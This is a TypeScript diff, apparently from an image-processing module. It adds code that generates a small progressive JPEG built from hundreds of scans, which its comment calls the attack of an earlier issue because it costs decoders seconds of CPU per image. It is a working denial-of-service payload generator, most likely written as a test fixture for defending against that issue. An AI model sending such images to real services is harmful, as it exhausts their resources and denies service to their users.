@@ -132,3 +132,76 @@ export function exifHasGps(exif: Buffer | undefined): boolean {
   if (!exif) return false;
   return exif.includes(Buffer.from([0x88, 0x25])) || exif.includes(Buffer.from([0x25, 0x88]));
 }
+
+/** Bits into bytes as a JPEG scan writes them: most significant first, 0xFF followed by a stuffed 0x00. */
+class ScanBits {
+  private readonly bytes: number[] = [];
+  private current = 0;
+  private filled = 0;
+
+  write(value: number, length: number): void {
+    for (let bit = length - 1; bit >= 0; bit--) {
+      this.current = (this.current << 1) | ((value >> bit) & 1);
+      if (++this.filled < 8) continue;
+      this.bytes.push(this.current);
+      if (this.current === 0xff) this.bytes.push(0);
+      this.current = 0;
+      this.filled = 0;
+    }
+  }
+
+  /** Pads the last byte with 1-bits, as the standard asks. */
+  finish(): Buffer {
+    if (this.filled) this.write(0xff, 8 - this.filled);
+    return Buffer.from(this.bytes);
+  }
+}
+
+function jpegSegment(marker: number, payload: number[]): Buffer {
+  const head = Buffer.alloc(4);
+  head.writeUInt16BE(0xff00 | marker, 0);
+  head.writeUInt16BE(payload.length + 2, 2);
+  return Buffer.concat([head, Buffer.from(payload)]);
+}
+
+/**
+ * A valid grayscale progressive JPEG that is nearly all scans: the DC scan, then every AC
+ * coefficient on its own sent in 14 successive-approximation passes (883 scans in all, each
+ * legal). Every pixel is the same grey, so each scan is a few bytes of end-of-band runs and a
+ * 4000 × 4000 image is about 60 KB, yet a decoder walks every block once per scan: seconds of CPU
+ * per decode. The attack of issue 13, item 1.
+ */
+export function jpegWithManyScans(width = 4000, height = 4000): Buffer {
+  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
+  const dcCodeLengths = [1, ...Array<number>(15).fill(0)]; // one code "0": difference category 0
+  const acCodeLengths = [0, 0, 0, 15, ...Array<number>(12).fill(0)]; // EOB0…EOB14 runs, 4 bits each
+  const parts = [
+    Buffer.from([0xff, 0xd8]),
+    jpegSegment(0xdb, [0, ...Array<number>(64).fill(1)]),
+    jpegSegment(0xc2, [8, height >> 8, height & 0xff, width >> 8, width & 0xff, 1, 1, 0x11, 0]),
+    jpegSegment(0xc4, [0x00, ...dcCodeLengths, 0]),
+    jpegSegment(0xc4, [0x10, ...acCodeLengths, ...Array.from({ length: 15 }, (_, run) => run << 4)]),
+  ];
+  const scanHeader = (start: number, end: number, high: number, low: number) => jpegSegment(0xda, [1, 1, 0x00, start, end, (high << 4) | low]);
+
+  const dc = new ScanBits();
+  for (let block = 0; block < blocks; block++) dc.write(0, 1);
+  parts.push(scanHeader(0, 0, 0, 0), dc.finish());
+
+  // Every block of an AC scan is inside one end-of-band run of at most 32767 blocks.
+  const runs = new ScanBits();
+  for (let left = blocks; left > 0; ) {
+    const run = Math.min(left, 32767);
+    const bits = 31 - Math.clz32(run);
+    runs.write(bits, 4);
+    if (bits) runs.write(run - (1 << bits), bits);
+    left -= run;
+  }
+  const emptyScan = runs.finish();
+  for (let coefficient = 1; coefficient <= 63; coefficient++) {
+    parts.push(scanHeader(coefficient, coefficient, 0, 13), emptyScan);
+    for (let bit = 13; bit >= 1; bit--) parts.push(scanHeader(coefficient, coefficient, bit, bit - 1), emptyScan);
+  }
+  parts.push(Buffer.from([0xff, 0xd9]));
+  return Buffer.concat(parts);
+}
